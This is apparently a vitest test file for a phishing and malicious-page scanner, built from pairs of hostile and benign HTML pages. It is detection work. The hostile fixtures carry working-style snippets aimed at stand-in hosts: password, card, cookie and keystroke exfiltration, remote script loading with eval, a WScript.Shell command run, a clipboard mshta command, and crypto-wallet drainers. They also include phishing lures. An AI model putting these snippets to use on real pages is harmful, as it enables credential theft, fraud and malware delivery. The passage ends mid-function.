/**
 * Pairs of a hostile page and a benign one that differ only in the decisive point, one for each kind of rule: a rule that
 * looked at anything else would judge both alike.
 */
import { afterAll, describe, expect, test } from 'vitest';
import { pageSchema } from '../src/core/page.ts';
import { createPageScanner } from '../src/scanners/page/index.ts';
import { collect } from '../src/sdk/run-scanner.ts';

const scanner = createPageScanner({ blocklists: null });
afterAll(() => scanner.close?.());

async function verdictOn([url, html, more]: Twin) {
  const page = pageSchema.parse({ url, html, ...more });
  const { assessments } = await collect(scanner, { kind: 'page', page }, { options: { network: false } });
  const { threatLevel = 'none', riskScore = 0, indicators = [] } = assessments[0] ?? {};
  return { level: threatLevel, text: `${riskScore}: ${indicators.join(' ')}` };
}

/** URL and source, and what else is posted */
type Twin = readonly [url: string, html: string, more?: object];
type Pair = readonly [decisive: string, hostile: Twin, benign: Twin];

const HELP = '<a href="/help">Help</a>';
const SITE = 'https://www.elmgarden.example/members';
/** As those of an archive: not readable. */
const bytes = Buffer.from(
  Array.from({ length: 1200 }, (_, at) => (at * at * 31 + at * 7 + 129) % 256),
).toString('base64');
const base64 = (text: string) => Buffer.from(text).toString('base64');
const page = (title: string, body: string) =>
  `<!doctype html><html lang="en"><head><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>`;
const login = (action = '/session', more = '') =>
  `<form action="${action}" method="post"><input name="user"><input type="password" name="p">${more}<button>Go</button></form>`;
const card =
  '<form action="/pay" method="post"><input name="cardnumber"><input name="cvv"><button>Pay</button></form>';
const script = (code: string) => `<script>${code}</script>`;
const inShop = (body: string, url = 'https://www.elmgarden.example/checkout'): Twin => [
  url,
  page('Checkout', body),
];
const words = (count: number) =>
  '<p>The garden opens in spring, and the roses flower until the first frost.</p>'.repeat(count);

function check(pairs: readonly Pair[]): void {
  test.each(pairs)('%s', async (_decisive, hostile, benign) => {
    const [bad, good] = [await verdictOn(hostile), await verdictOn(benign)];
    expect(bad.level, bad.text).toMatch(/^(?:SUSPICIOUS|MALICIOUS)$/);
    expect(good.level, good.text).toBe('BENIGN');
  });
}

describe('brands', () => {
  const titled = (title: string, url: string, more = ''): Twin => [url, page(title, `${more}${login()}`)];
  const headed = (heading: string): Twin => [
    SITE,
    `<title>Members</title><h1>${heading}</h1>${login('https://form-desk.example/in.php')}`.replace(
      '.php',
      '',
    ),
  ];
  check([
    [
      'whose page it is',
      titled('PayPal - Log in', SITE),
      titled('PayPal - Log in', 'https://www.paypal.com/signin'),
    ],
    [
      'what the title says beside the name',
      titled('Apple ID', 'https://id-desk.weebly.com/', HELP),
      titled('Apple cake', 'https://id-desk.weebly.com/', HELP),
    ],
    ['in another language', titled('Netflix Giriş', SITE), titled('Film Giriş', SITE)],
    ['who signs in, not who vouches', headed('Facebook account'), headed('Continue with Facebook')],
    [
      "a word that is the site's own name",
      titled('Chase Online', 'https://online-desk.example/'),
      titled('Chase Online', 'https://www.chase-brewery.co.uk/'),
    ],
    [
      'software on a free host',
      titled('WordPress', 'https://blog-desk.weebly.com/'),
      titled('WordPress', 'https://blog.elmgarden.example/'),
    ],
    [
      'mail software in its own folder',
      titled('Outlook', 'https://mail.elmgarden.xyz/owa/'),
      titled('Outlook', 'https://mail.elmgarden.de/owa/auth/logon.aspx'),
    ],
    [
      'where the form of the logo goes',
      [
        SITE,
        page(
          'Members',
          `<img src="https://www.paypal.com/img/logo.png">${login('https://pay-desk.example/in')}`,
        ),
      ],
      [
        SITE,
        page(
          'Members',
          `<img src="https://www.paypal.com/img/logo.png">${login('https://www.paypal.com/in')}`,
        ),
      ],
    ],
    [
      'a host of the government',
      titled('HMRC sign in', 'https://tax-desk.github.io/'),
      titled('HMRC sign in', 'https://tax-desk.service.gov.uk/'),
    ],
  ]);
});

describe('host names', () => {
  const empty = (url: string): Twin => [url, page('Welcome', words(3))];
  check([
    ['a digit for a letter', empty('https://paypa1.example/'), empty('https://papal.example/')],
    [
      'a word about signing in',
      empty('https://paypal-login.example/'),
      empty('https://paypal-fans.example/'),
    ],
    ['joined words', empty('https://applelogin.example/'), empty('https://applecake.example/')],
    ['a hyphen within a word', empty('https://p-aypal.example/'), empty('https://pay-pals.example/')],
    [
      'a domain in the subdomain',
      empty('https://paypal.com.elmgarden.example/'),
      empty('https://paypal.elmgarden.example/'),
    ],
    [
      'a savings bank with such a word',
      empty('https://sparkasse-aktualisierung.de/'),
      empty('https://sparkasse-elmstadt.de/'),
    ],
    [
      'a tenant of a service',
      empty('https://paypal-com.elmgarden.example/'),
      empty('https://paypal-com.sentry.io/'),
    ],
    [
      'a known name on a free host',
      empty('https://netflix.weebly.com/'),
      empty('https://netfilms.weebly.com/'),
    ],
  ]);
});

describe('forms', () => {
  const sent = (action: string, url = SITE): Twin => [url, page('Members', login(action))];
  const labelled = (label: string): Twin => [
    SITE,
    page(
      'Members',
      `<form action="https://form-desk.example/in.php"><label>${label}</label><input name="f2"></form>`,
    ),
  ];
  check([
    ['another owner', sent('https://form-desk.example/in.php'), sent('https://www.elmgarden.example/in.php')],
    [
      'a bot',
      sent('https://api.telegram.org/bot1:a/sendMessage'),
      sent('https://login.microsoftonline.com/a'),
    ],
    [
      'a service that forwards forms',
      sent('https://www.weebly.com/weebly/apps/formSubmit.php'),
      sent('https://www.weebly.com/login'),
    ],
    [
      'a script of a stranger, for a university',
      sent('https://form-desk.example/in.php', 'https://www.elm.ac.uk/library'),
      sent('https://library-vendor.example/in', 'https://www.elm.ac.uk/library'),
    ],
    ['a label of a field without a type', labelled('Password'), labelled('Plant')],
    [
      'the document of a frame',
      [SITE, page('Members', `<iframe srcdoc='${login('https://form-desk.example/in.php')}'></iframe>`)],
      [SITE, page('Members', `<iframe srcdoc='${login('/in.php')}'></iframe>`)],
    ],
    [
      'a page that was saved from another site',
      [
        SITE,
        `<!-- saved from url=(0030)https://bank.example/login -->${page('Members', login('/next.php'))}`,
      ],
      [
        SITE,
        `<!-- saved from url=(0030)https://www.elmgarden.example/ -->${page('Members', login('/next.php'))}`,
      ],
    ],
    [
      'a window that is drawn around a login',
      [
        SITE,
        page(
          'Members',
          `<div><b>Sign in - Google Chrome</b><span>https://accounts.mail.example/oauth/authorize</span>${login()}</div>`,
        ),
      ],
      [
        SITE,
        page(
          'Members',
          `<div><b>Sign in - Google Chrome</b><span>https://accounts.mail.example/oauth/authorize</span></div>`,
        ),
      ],
    ],
  ]);
});

describe('demands', () => {
  const phrase = (code: string): Twin => [
    SITE,
    page('Recovery phrase', `<textarea id="phrase" placeholder="seed phrase"></textarea>${script(code)}`),
  ];
  const fee = (more: string, title = 'Pay'): Twin => [
    'https://elmpost.online/pay',
    page(title, `<p>Your parcel waits: the fee is £1.45.</p>${more}${card}`),
  ];
  check([
    [
      'a recovery phrase that is sent',
      phrase('phrase.onchange=()=>fetch("/check",{method:"POST",body:phrase.value})'),
      phrase('phrase.onchange=()=>{out.textContent=checksum(phrase.value)}'),
    ],
    ['a card for a fee, without a basket', fee(''), fee('<a href="/cart">Your basket</a>')],
    [
      'a basket that is shown',
      fee('<div style="display:none"><a href="/cart">More</a></div>'),
      fee('<a href="/cart">More</a>'),
    ],
    [
      'a title on the fee beside a basket',
      fee('<a href="/cart">More</a>', 'Customs fee'),
      fee('<a href="/cart">More</a>', 'Fine roses'),
    ],
    [
      'a card with its PIN, under a cheap domain',
      inShop(card.replace('<button>', '<input name="atm_pin"><button>'), 'https://elmgarden.xyz/checkout'),
      inShop(card, 'https://elmgarden.xyz/checkout'),
    ],
    [
      'urgency',
      [
        'https://account-desk.example/',
        page(
          'Members',
          `<p>Your account has been suspended. Verify your identity within 24 hours.</p>${login()}`,
        ),
      ],
      [
        'https://account-desk.example/',
        page('Members', `<p>Your account is in the garden club.</p>${login()}`),
      ],
    ],
  ]);
});

describe('lures', () => {
  const wallet = '17TuPYGNccH8FLgvUV4T8DDrTmb47Z3rKa';
  const doubled = 'Send from 0.1 to 20 BTC to this address and get back double.';
  const offer = (title: string, body: string): Twin => [SITE, page(title, body)];
  const paste = (heading: string, more: string): Twin => [
    SITE,
    page(heading, `<p>I'm not a robot: press Windows + R, then Ctrl + V and Enter.</p>${more}`),
  ];
  const loads = '<script src="/js/site.js"></script>';
  check([
    [
      'an offer, though a heading warns of fraud',
      offer('Giveaway', `<h2>Beware of scams</h2><p>${doubled}</p><code>${wallet}</code><br>`),
      offer(
        'A giveaway that is a scam',
        `<p>It says "${doubled}" The address was ${wallet}, as victims told us.</p>`,
      ),
    ],
    [
      'an address put for copying, though the title warns of fraud',
      offer('Beware of scams: official giveaway', `<p>${doubled}</p><p>${wallet}</p>`),
      offer('Beware of scams: official giveaway', `<p>"${doubled}" said the page on ${wallet}.</p>`),
    ],
    [
      'a picture to scan',
      offer('Scam or not', `<p>"${doubled}" ${wallet}</p><img src="https://chart.example/?cht=qr&chl=x">`),
      offer('Scam or not', `<p>"${doubled}" ${wallet}</p><img src="https://chart.example/?cht=lc&chl=x">`),
    ],
    [
      'instructions, though a heading warns of malware',
      paste('Verify you are human', `<h2>Protected against malware and phishing</h2>${loads}`),
      paste('How malware makes people paste commands', loads),
    ],
    [
      'instructions under their own heading, though the page has more text',
      paste('Verify you are human', words(14) + loads),
      paste('What we saw in May', words(14) + loads),
    ],
    [
      'a command for the clipboard',
      paste(
        'What we saw in May',
        `${words(14)}${script('b.onclick=()=>navigator.clipboard.writeText("mshta https://in-desk.example/a.mp4")')}`,
      ),
      paste(
        'What we saw in May',
        `${words(14)}${script('b.onclick=()=>navigator.clipboard.writeText(location.href)').replace('clipboard.writeText', 'share')}`,
      ),
    ],
    [
      'a browser update with a file',
      offer('Update', '<p>Your browser is out of date.</p><a href="/chrome-update.zip">Update</a>'),
      offer('Update', '<p>Your browser is out of date.</p><a href="/browsers.html">Update</a>'),
    ],
    [
      'an alarm with a number',
      offer(
        'Support',
        '<p>Your computer has been blocked. Virus detected: call +1 888 555 0199. Microsoft</p>',
      ),
      offer('Support', '<p>Your computer has questions? Just call +1 888 555 0199. Microsoft partner</p>'),
    ],
    [
      'protection that must be off',
      offer('Setup', '<p>Turn off your antivirus first.</p><a href="/setup.zip">Setup</a>'),
      offer('Setup', '<p>Turn off your lamp first.</p><a href="/setup.zip">Setup</a>'),
    ],
  ]);
});

describe('frames', () => {
  const framed = (frame: string): Twin => [SITE, page('Garden', `${words(4)}${frame}`)];
  const one = 'width="1" height="1"';
  check([
    [
      'a traffic system that is hidden',
      framed(`<iframe src="http://st-desk.com/in.cgi?8" ${one}>`),
      framed('<iframe src="http://st-desk.com/in.cgi?8" width="400" height="300">'),
    ],
    [
      'a counter under a cheap domain',
      framed(`<iframe src="http://st-desk.info/count12.php" ${one}>`),
      framed(`<iframe src="http://st-desk.com/count12.php" ${one}>`),
    ],
    [
      'an archive in a hidden applet',
      framed(`<applet archive="http://st-desk.com/a.jar" ${one}></applet>`),
      framed('<applet archive="http://st-desk.com/a.jar" width="400" height="300"></applet>'),
    ],
    [
      'a transparent frame',
      framed('<iframe src="https://st-desk.com/a" style="opacity:0.01;position:absolute">'),
      framed('<iframe src="https://st-desk.com/a" style="opacity:0.9;position:absolute">'),
    ],
    [
      'a page that is a frame',
      [
        'https://elm.weebly.com/',
        '<title>Elm</title><iframe src="https://st-desk.top/a" width="100%"></iframe>',
      ],
      [
        'https://elm.weebly.com/',
        `<title>Elm</title><p>${words(5)}</p><iframe src="https://st-desk.top/a" width="100%"></iframe>`,
      ],
    ],
  ]);
});

describe('scripts', () => {
  const run = (code: string): Twin => [SITE, page('Garden', `${words(2)}${script(code)}`)];
  const typed = (code: string): Twin => [
    SITE,
    page('Members', `<input type="password" id="pw"><input id="q">${script(code)}`),
  ];
  const paid = (code: string): Twin =>
    inShop(`<input name="cardnumber" id="n"><p id="t">x</p>${script(code)}`);
  check([
    [
      'a password that is sent',
      typed('b.onclick=()=>fetch("https://in-desk.example/?"+pw.value)'),
      typed('b.onclick=()=>{show(pw.value);fetch("https://in-desk.example/?"+q.value)}'),
    ],
    [
      'a stranger that gets it',
      typed('b.onclick=()=>fetch("https://in-desk.example/?"+pw.value)'),
      typed('b.onclick=()=>fetch("https://api.elmgarden.example/?"+pw.value)'),
    ],
    [
      'a sign-in service',
      typed(
        'b.onclick=()=>fetch("https://in-desk.example/v1/accounts:signInWithPassword?key=a",{method:"POST",body:pw.value})',
      ),
      typed(
        'b.onclick=()=>fetch("https://identitytoolkit.googleapis.com/v1/accounts:signInWithPassword?key=a",{method:"POST",body:pw.value})',
      ),
    ],
    [
      'a card that is sent',
      paid('f.onsubmit=()=>{new Image().src="https://in-desk.example/p?"+n.value}'),
      paid('f.onsubmit=()=>{new Image().src="https://in-desk.example/p?"+t.textContent}'),
    ],
    [
      'keys that are sent',
      run('let b="";onkeydown=(e)=>{b+=e.key;navigator.sendBeacon("https://in-desk.example/k",b)}'),
      run(
        'let b=0;onkeydown=(e)=>{if(e.key==="Escape")b++;navigator.sendBeacon("https://in-desk.example/k",b)}',
      ),
    ],
    [
      'cookies that are sent',
      run('fetch("https://in-desk.example/c?"+document.cookie)'),
      run('if(document.cookie)fetch("https://in-desk.example/c?"+location.pathname)'),
    ],
    [
      'a host that is encoded',
      run(
        `var s=document.createElement("script");s.src=atob("${base64('https://in-desk.example/a.js')}");document.body.append(s)`,
      ),
      run(
        'var s=document.createElement("script");s.src="https://in-desk.example/a.js";document.body.append(s)',
      ),
    ],
    [
      'a script written in escapes',
      run(
        'document.write(unescape("%3Cscript src=\'%68ttps://in-desk%2Eexample/a.js\'%3E%3C/script%3E"))'.replace(
          'in-desk%2Eexample',
          '%69%6e%2d%64%65%73%6b.example',
        ),
      ),
      run('document.write(unescape("%3Cscript src=\'https://in-desk.example/ga.js\'%3E%3C/script%3E"))'),
    ],
    [
      'a shell',
      run('var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c a.exe")'),
      run('var s=new ActiveXObject("Scripting.FileSystemObject");s.FileExists("a.txt")'),
    ],
    [
      'text of another site that is run',
      run('fetch("https://in-desk.example/a").then((r)=>r.text()).then((t)=>eval(t))'),
      run('fetch("https://in-desk.example/a").then((r)=>r.text()).then((t)=>show(t))'),
    ],
    [
      'approval of all tokens',
      run(
        'async function go(){const a=await ethereum.request({method:"eth_requestAccounts"});await contract.setApprovalForAll("0x1111111111111111111111111111111111111111",true);await ethereum.request({method:"eth_sendTransaction",params:[]})}go()',
      ),
      run(
        'async function go(){const a=await ethereum.request({method:"eth_requestAccounts"});show(a);const abi=[{name:"setApprovalForAll",type:"function"}];await ethereum.request({method:"eth_sendTransaction",params:[]})}go()',
      ),
    ],
    [
      'an archive that saves itself',
      run(
        `onload=()=>{var d=atob("${bytes}");var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([d]));a.download="invoice.zip";setTimeout(()=>a.click(),1)}`,
      ),
      run(
        'onload=()=>{var d=list.value;var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([d]));a.download="list.csv";b.onclick=()=>a.click()}',
      ),
    ],
  ]);
});

// cspell:ignore wurde einem trojaner infiziert rufen sofort votre ordinateur fermez cette
describe('scares', () => {
  const scared = (body: string, code = ''): Twin => [SITE, page('Members', `${body}${code && script(code)}`)];
  check([
    [
      'whose computer is infected',
      scared('<p>Ihr PC wurde von einem Trojaner infiziert. Rufen Sie sofort 030 5550 1919 an.</p>'),
      scared('<p>Ist ein PC von einem Trojaner infiziert? Rufen Sie uns an: 030 5550 1919.</p>'),
    ],
    [
      'what the page forbids',
      scared('<p>Votre ordinateur a été bloqué. Ne fermez pas cette fenêtre.</p>'),
      scared('<p>Votre ordinateur a été réparé. Ne fermez pas cette fenêtre.</p>'),
    ],
    [
      'how often history is written',
      scared(words(3), 'for(var i=0;i<100000;i++){t+=i;history.pushState(0,0,t)}'),
      scared(words(3), 'for(var i=0;i<100000;i++){t+=i}history.pushState(0,0,t)'),
    ],
    [
      'a dialog that comes again',
      scared('<p>Hello</p>', 'function again(){alert("Hello");setTimeout(again,10)}onload=again'),
      scared('<p>Hello</p>', 'function once(){alert("Hello");setTimeout(hide,10)}onload=once'),
    ],
  ]);
});

describe('logins without a password', () => {
  const shown = (body: string, code = ''): Twin => [SITE, page('Members', `${body}${code && script(code)}`)];
  const scan = (more: string) =>
    shown(
      `<p>Scan the QR code with your phone. ${more}</p><img src="data:image/png;base64,AAAA" alt="QR">`,
      'setInterval(check,900)',
    );
  const permit = (scope: string, more = '') =>
    shown(
      `<p>The app of the club</p><a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&scope=${scope}">Open</a>${more}`,
    );
  const window = (bar: string) => shown(`<div>${bar}</div>${login()}`);
  check([
    [
      'who asked for the code',
      shown(
        '<a href="https://microsoft.com/devicelogin">Paste the code</a>',
        'get("/c").then((d)=>show(d.user_code))',
      ),
      shown(
        '<a href="https://microsoft.com/devicelogin">Paste the code</a>',
        'get("/c").then((d)=>show(d.title))',
      ),
    ],
    ['what an app may do', permit('Mail.ReadWrite%20Mail.Send'), permit('openid%20profile')],
    [
      'other pages of an app',
      permit('Mail.ReadWrite%20Mail.Send'),
      permit('Mail.ReadWrite%20Mail.Send', HELP),
    ],
    ['a threat beside a code', scan('Your access expires today.'), scan('Enjoy the garden.')],
    [
      'whose session a code is',
      shown(
        '<p>Gift</p>',
        'var s=new WebSocket("wss://in-desk.example/");s.onmessage=(m)=>draw("https://discord.com/ra/"+m.data)',
      ),
      shown(
        '<p>Gift</p>',
        'var s=new WebSocket("wss://in-desk.example/");s.onmessage=(m)=>draw("https://discord.com/x/"+m.data)',
      ),
    ],
    [
      'an address bar within the page',
      window('https://accounts.google.com/signin/oauth'),
      window('https://accounts.elmgarden.example/signin/oauth'),
    ],
  ]);
});

describe('deeds of scripts and offers', () => {
  const run = (code: string): Twin => [SITE, page('Members', `${words(3)}${script(code)}`)];
  const said = (body: string): Twin => [SITE, page('Members', body)];
  check([
    [
      'what is decrypted',
      run(
        'var x=new XMLHttpRequest();x.open("GET","/a");x.send();var m=AES.decrypt(x.response,k);new Function(m)()',
      ),
      run('var x=new XMLHttpRequest();x.open("GET","/a");x.send();var m=AES.decrypt(x.response,k);show(m)'),
    ],
    [
      'who gets a signed order',
      run(
        'var s=await ethereum.request({method:"eth_signTypedData_v4",params:[a,"OrderComponents"]});navigator.sendBeacon("https://in-desk.example/o",JSON.stringify({sig:s}))',
      ),
      run(
        'var s=await ethereum.request({method:"eth_signTypedData_v4",params:[a,"OrderComponents"]});navigator.sendBeacon("/o",JSON.stringify({sig:s}))',
      ),
    ],
    [
      'how often permission is asked',
      run('setInterval(function(){Notification.requestPermission()},800)'),
      run('b.onclick=function(){Notification.requestPermission()}'),
    ],
    [
      'what a hash is for',
      run(
        'var n=navigator.hardwareConcurrency,nonce=0,target=4;w=new Worker("/w.js");w.onmessage=(e)=>pool.send(e.data+"sha256")',
      ),
      run(
        'var n=navigator.hardwareConcurrency,nonce=0,target=4;w=new Worker("/w.js");w.onmessage=(e)=>location.replace("/pass?nonce="+e.data+"sha256")',
      ),
    ],
    [
      'a prize for sharing',
      said('<p>Congratulations, you have won. Share with 20 friends to claim your prize.</p>'),
      said('<p>Congratulations, you have passed. Share with 20 friends.</p>'),
    ],
  ]);
});

describe('what surrounds a demand', () => {
  const FREE = 'https://desk-7c.netlify.app/in';
  const on = (url: string, body: string, code = ''): Twin => [
    url,
    page('Members', `${body}${code && script(code)}`),
  ];
  const kit = login('/next.php').replace('next', 'members');
  const wallet = (to: string, more = '') =>
    on(
      SITE,
      more,
      `b.onclick=async()=>{await ethereum.request({method:"eth_requestAccounts"});c.approve("0x${'5a'.repeat(20)}",${to})}`,
    );
  const trap = 'onbeforeunload=()=>"Stay";document.onclick=()=>document.body.requestFullscreen()';
  const numbered = (count: number) =>
    `<form action="/in" method="post">${Array.from({ length: count }, (_, at) => `<input type="text" name="part${at + 1}">`).join('')}</form>`;
  const renamed = `${'_0x1a2b3c();'.repeat(25)}`;
  const frame = (src: string) => `${card}<iframe src="${src}"></iframe>`;
  const hides = 'document.forms[0].style.display="none"';
  check([
    ['a link to another page of the site', on(FREE, kit), on(FREE, `${kit}${HELP}`)],
    ['whose host it is', on(FREE, kit), on('https://members.elmgarden.example/in', kit)],
    [
      'software at home',
      on('https://cloud-desk.duckdns.org/', kit),
      [`https://cloud-desk.duckdns.org/`, page('Nextcloud', login())],
    ],
    [
      'a name of a brand above a login',
      on('https://paypal-fans.example/', login()),
      on('https://paypal-fans.example/', words(2)),
    ],
    [
      'where a login goes on to',
      on(SITE, login(), 'document.forms[0].onsubmit=()=>{location.href="https://www.elmbank.example/"}'),
      on(SITE, login(), 'document.forms[0].onsubmit=()=>{location.href="/account"}'),
    ],
    [
      'whose logo it shows',
      on(SITE, login(), 'img.src="https://logo.clearbit.com/"+mail.split("@")[1]'),
      on(SITE, login(), 'img.src="https://logo.clearbit.com/elmgarden.example"'),
    ],
    [
      'a number on a page that cannot be left',
      on(SITE, '<a href="tel:+18885550100">Call</a>', trap),
      on(SITE, '<a href="/shop">Shop</a>', trap),
    ],
    ['how much a wallet allows', wallet('ethers.constants.MaxUint256'), wallet('price')],
    [
      'other pages of an exchange',
      wallet('ethers.constants.MaxUint256'),
      wallet('ethers.constants.MaxUint256', HELP),
    ],
    [
      'what is counted',
      on(
        SITE,
        '<a href="whatsapp://send?text=x">Send</a>',
        'var n=0;a.onclick=()=>{n++;if(n>9)location="/end"}',
      ),
      on(SITE, '<a href="mailto:?body=x">Send</a>', 'var n=0;a.onclick=()=>{n++;if(n>9)location="/end"}'),
    ],
    [
      'the site that a page leads to',
      [
        SITE,
        `<title>Netflix</title>${script('poll().then(()=>location.replace("https://www.netflix.com/"))')}`,
      ],
      [
        SITE,
        `<title>Garden</title>${script('poll().then(()=>location.replace("https://www.netflix.com/"))')}`,
      ],
    ],
    [
      'whose form for cards is shown',
      inShop(`${frame('https://desk-pay.example/form.html')}${script(hides)}`),
      inShop(`${frame('https://js.stripe.com/v3/form.html')}${script(hides)}`),
    ],
    ['how many numbered words', on(SITE, numbered(24)), on(SITE, numbered(7))],
    [
      'names of fields among renamed code',
      on(SITE, words(2), `${renamed}var a=["cc_number","sendBeacon","https://desk-stat.example/c"]`),
      on(SITE, words(2), `${renamed}var a=["row_number","sendBeacon","https://desk-stat.example/c"]`),
    ],
    [
      'a folder of plug-ins',
      on(
        'https://elmgarden.xyz/',
        words(2),
        `${renamed}var a=["referrer","//elmgarden.xyz/wp-includes/js/x.php?id="]`,
      ),
      on('https://elmgarden.xyz/', words(2), `${renamed}var a=["referrer","//elmgarden.xyz/shop/x.php?id="]`),
    ],
    [
      'who looks up the visitor before a login',
      on('https://elmgarden.icu/', login(), 'fetch("https://ipapi.co/json").then(show)'),
      on('https://elmgarden.icu/', `${login()}${HELP}`, 'fetch("https://ipapi.co/json").then(show)'),
    ],
  ]);
});

describe('code of exploits, workers and updates', () => {
  const run = (code: string, body = words(2)): Twin => [SITE, page('Members', `${body}${script(code)}`)];
  const unseen = (count: number) => '\u200b\u200c'.repeat(count / 2);
  const plugins = (send: string) =>
    run(
      `var v="Flash"+new ActiveXObject("ShockwaveFlash.ShockwaveFlash")+"Java"+"Silverlight";document.write('<applet archive="a.jar"></applet>');${send}`,
    );
  const mails = (passwordFields: number): Twin => [
    'https://desk-9f.netlify.app/',
    '<title>Netflix</title><div id="root"></div>',
    { dom: { elements: 9, forms: 0, iframes: 0, scripts: 0, links: 0, hiddenElements: 0, passwordFields } },
  ];
  check([
    ['who learns of plug-ins', plugins('i.src="/c?v="+v'), run('var v="Flash"+"Java"+"Silverlight";show(v)')],
    [
      'how much is invisible',
      run(`var t="${unseen(80)}";eval(read(t.charCodeAt(0)))`),
      run(`var t="${unseen(20)}";eval(read(t.charCodeAt(0)))`),
    ],
    [
      'what decoded text becomes',
      run(
        'function d(t){return String.fromCharCode(t-1)}var s=document.createElement("script");s.text=d(k);document.body.append(s);new Function(atob(k))()',
      ),
      run(
        'function d(t){return String.fromCharCode(t-1)}var s=document.createElement("p");s.text=d(k);document.body.append(s)',
      ),
    ],
    [
      'each token of a wallet',
      run('for(const t of await getTokenBalances(a)){await c.approve(d,MaxUint256)}'),
      run('for(const t of await getTokenBalances(a)){show(t.name)}'),
    ],
    [
      'what a worker is told',
      run('w.postMessage({type:"inject",src:"https://desk-stat.example/a.js"})'),
      run('w.postMessage({type:"cache",src:"https://desk-stat.example/a.js"})'),
    ],
    [
      'where a worker comes from',
      run('navigator.serviceWorker.register("data:text/javascript,x")'),
      run('navigator.serviceWorker.register("/sw.js")'),
    ],
    [
      'text from character codes in VBScript',
      [SITE, page('Members', '<script language="VBScript">Execute Chr(68)&Chr(105)</script>')],
      [SITE, page('Members', '<script language="VBScript">Execute "Dim x"</script>')],
    ],
    [
      'what is out of date',
      ['https://news-desk.icu/', page('Mettez à jour votre navigateur', '<a href="#">OK</a>')],
      ['https://news-desk.icu/', page('Mettez à jour votre adresse', '<a href="#">OK</a>')],
    ],
    [
      'passwords that the browser counts',
      mails(1),
      [...mails(0).slice(0, 1), '<title>Garden</title>'] as unknown as Twin,
    ],
    [
      'a name of a public address',
      ['https://git.203.0.113.9.nip.io/in', page('Members', login())],
      ['https://git.10.20.30.40.nip.io/in', page('Members', login())],
    ],
    [
      'a report on pasted commands',
      [SITE, page('Verify you are human', '<p>Press Windows + R, then Ctrl + V</p>')],
      [SITE, page('ClickFixについて', '<p>Verify you are human: Press Windows + R, then Ctrl + V</p>')],
    ],
    [
      'a top-level domain of a brand',
      ['https://connexion-desk.example/', page('BNP Paribas - Connexion', login())],
      ['https://connexion-desk.bnpparibas/', page('BNP Paribas - Connexion', login())],
    ],
    [
      'who approves a payment',
      [
        SITE,
        page('Visa Secure', '<form action="/a" method="post"><input type="password" name="pin"></form>'),
      ],
      [
        SITE,
        page(
          'Visa Secure',
          '<form action="/a" method="post"><input type="hidden" name="PaReq"><input type="password" name="pin"></form>',
        ),
      ],
    ],
  ]);
});

describe('addresses without a name', () => {
  const on = (body: string, code = '', url = SITE): Twin => [
    url,
    page('Members', `${body}${code && script(code)}`),
  ];
  const [nameless, named] = ['203.0.113.9', 'in-desk.example'];
  const consent = (to: string) =>
    on(
      `<a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&redirect_uri=https%3A%2F%2F${to}%2Fcb&scope=openid">Go on</a>`,
    );
  const scan = (to: string) =>
    on(`<img src="https://api.qrserver.com/v1/create-qr-code/?data=https://${to}/o&size=200x200">`);
  const update = (to: string) =>
    on(`<p>Your browser is out of date.</p><a href="https://${to}/roses.zip">Roses</a>`);
  const codes = (to: string) =>
    [...`document.write('<img src=//${to}/p.gif>')`].map((one) => one.charCodeAt(0)).join('$');
  const goes = (to: string) => on(login(), `fetch("https://${to}/m")`);
  const reads = (to: string) =>
    on(login(), `var n="${codes(to)}".split("$"),s="";for(i=0;i<n.length;i++)s+=c(1*n[i])`);
  check([
    ['where a script goes', goes(nameless), goes(named)],
    ['a public address', goes(nameless), goes('192.168.0.9')],
    ['a password beside the address', goes(nameless), on(words(2), `fetch("https://${nameless}/m")`)],
    ['codes between other characters', reads(nameless), reads(named)],
    ['who may use an account', consent(nameless), consent(named)],
    ['what a QR code holds', scan(nameless), scan(named)],
    ['where a file is', update(nameless), update(named)],
  ]);
});

describe('names around a demand', () => {
  const on = (url: string, body: string, title = 'Members'): Twin => [url, page(title, body)];
  const kit = login('/members.php');
  const sent = `<p>Your account has been suspended.</p>${login('/send.php')}`;
  const linked = (to: string) =>
    on('https://elmbank-desk.members-in.example/', `${kit}<a href="https://www.${to}/help">Help</a>`);
  const built = (label: string) =>
    on(
      'https://form.jotform.com/2333',
      `<form action="https://submit.jotform.com/submit/2333"><label>${label}</label><input name="q3"></form>`,
    );
  const window = (title: string, code = '$("#w").draggable()') =>
    on(SITE, `<div id="w"><iframe src="./f/a.html"></iframe></div>${script(code)}`, title);
  const asks = (more: string) => on(SITE, `${login('/members.php', more)}`);
  const takes = (field: string) =>
    on(
      'https://elmgarden.icu/',
      `<p>Urgent: last warning.</p><form action="/leads.php"><input name="email"><input name="${field}"></form>${script('fetch("https://ipapi.co/json").then(show)')}`,
    );
  const wallet = (name: string) =>
    on(
      SITE,
      `<p>Crypto wallet</p><form action="/in" method="post"><textarea name="${name}"></textarea></form>`,
    );
  const data = (action: string) => on(SITE, `<form id="d" action="${action}"></form>`);
  check([
    [
      'the ending of a country in the subdomain',
      on('https://elmbank-desk.de.members-in.example/', sent),
      on('https://elmbank-desk.app.members-in.example/', sent),
    ],
    ['whose name the host has', linked('elmbank.example'), linked('elmtree.example')],
    ['a password in a form that anybody can make', built('Mot de passe SFR'), built('Mot de la fin')],
    ['whose window is dragged', window('Microsoft Anmelden'), window('Garten Anmelden')],
    [
      'a window that is dragged',
      window('Microsoft Anmelden'),
      window('Microsoft Anmelden', '$("#w").show()'),
    ],
    ['a card beside a password', asks('<input name="cvv">'), asks('<input name="vase">')],
    ['who can be called', takes('phone'), takes('place')],
    ['the phrase of a wallet', wallet('phrase'), wallet('place')],
    ['a form within its own address', data('data:text/html;base64,PGI+'), data('/in')],
    [
      'a login under a common brand on a free host',
      on('https://apple.weebly.com/', login()),
      on('https://maple.weebly.com/', login()),
    ],
  ]);
});

describe('wallets, traps, and code alone', () => {
  const on = (url: string, code: string, more = words(1)): Twin => [
    url,
    page('Members', `${more}${script(code)}`),
  ];
  const CHEAP = 'https://elmgarden.xyz/';
  const asks = 'b.onclick=async()=>{const a=await ethereum.request({method:"eth_requestAccounts"});';
  const moves = `${asks}await c.approve(s,n)}`;
  const shows = `${asks}show(a)}`;
  const away = 'addEventListener("popstate",()=>history.pushState(0,0,"/"));onbeforeunload=()=>"Stay"';
  const saves = (start: string) =>
    on(
      SITE,
